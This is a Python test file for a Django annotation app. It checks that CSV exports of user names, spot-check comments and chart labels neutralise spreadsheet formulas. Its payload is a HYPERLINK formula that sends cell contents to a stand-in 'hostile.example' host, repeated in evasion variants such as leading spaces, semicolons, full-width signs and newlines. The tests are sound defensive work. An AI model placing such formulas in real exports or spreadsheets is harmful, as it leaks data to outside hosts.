"""Names and comments that are formulas: no spreadsheet runs one, wherever it cuts the lines."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import timedelta
from urllib.parse import unquote

import pytest
from django.test import Client
from django.utils import timezone

from accounts.models import User
from annotation.models import Attempt, SampledClaim
from annotation.services.review import spot_checks
from plots import Bar, BarChart, downloads
from tests.annotation.verifying_world import make_desk, verified_by, verify
from tests.people import NOW

pytestmark = pytest.mark.django_db
LogIn = Callable[[User], Client]
CALL = '=HYPERLINK("http://hostile.example/?"&A1)'
# At the start, after blanks, and after what other languages cut lines at.
FORMULAS = [CALL, f"  {CALL}", f"Ann;{CALL}", f"Ann; {CALL}", "Ann;@SUM(A1)", f"\uff1d{CALL}"]
MARKS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def formulas_in(text: str) -> list[str]:
    """Return the cells that a spreadsheet would run; it cuts lines at commas or at semicolons."""
    assert "HYPERLINK" in text or "SUM" in text
    return [
        cell
        for delimiter in ",;"
        for line in csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter)
        for cell in line
        if cell.strip().startswith(MARKS)
    ]


@pytest.mark.parametrize("name", FORMULAS)
def test_hours_run_nothing_of_a_name(log_in: LogIn, name: str) -> None:
    desk = make_desk(verifiers=1)
    User.objects.filter(pk=desk.verifier.pk).update(name=name)
    attempt = verify(desk).attempt
    Attempt.objects.filter(pk=attempt.pk).update(ended_at=timezone.now(), active_ms=60_000)
    answer = log_in(desk.manager).get(f"/campaigns/{desk.campaign.public_id}/hours.csv")
    assert formulas_in(answer.content.decode()) == []


@pytest.mark.parametrize("comment", [*FORMULAS, f"Fine.\n{CALL}", f"Fine.\r\n{CALL}"])
def test_spot_checks_run_nothing_of_a_comment(log_in: LogIn, comment: str) -> None:
    desk = make_desk(protocol=verified_by(1))
    verify(desk)
    drawn = spot_checks.draw_spot_check(
        campaign=desk.campaign, size=1, by_verdict=False, actor=desk.manager, now=NOW
    )
    SampledClaim.objects.filter(spot_check=drawn).update(
        result=SampledClaim.Result.SUFFICIENT,
        comment=comment,
        checked_at=NOW + timedelta(hours=1),
        checked_by=desk.manager,
    )
    address = f"/campaigns/{desk.campaign.public_id}/spot-checks/{drawn.number}/file/"
    assert formulas_in(log_in(desk.manager).get(address).content.decode()) == []


@pytest.mark.parametrize("label", FORMULAS)
def test_charts_run_nothing_of_a_label(label: str) -> None:
    chart = BarChart(title="Hours", value_name=label, bars=(Bar(label=label, value=1.5),))
    link = downloads.as_link(chart)
    assert formulas_in(unquote(link.partition(",")[2])) == []
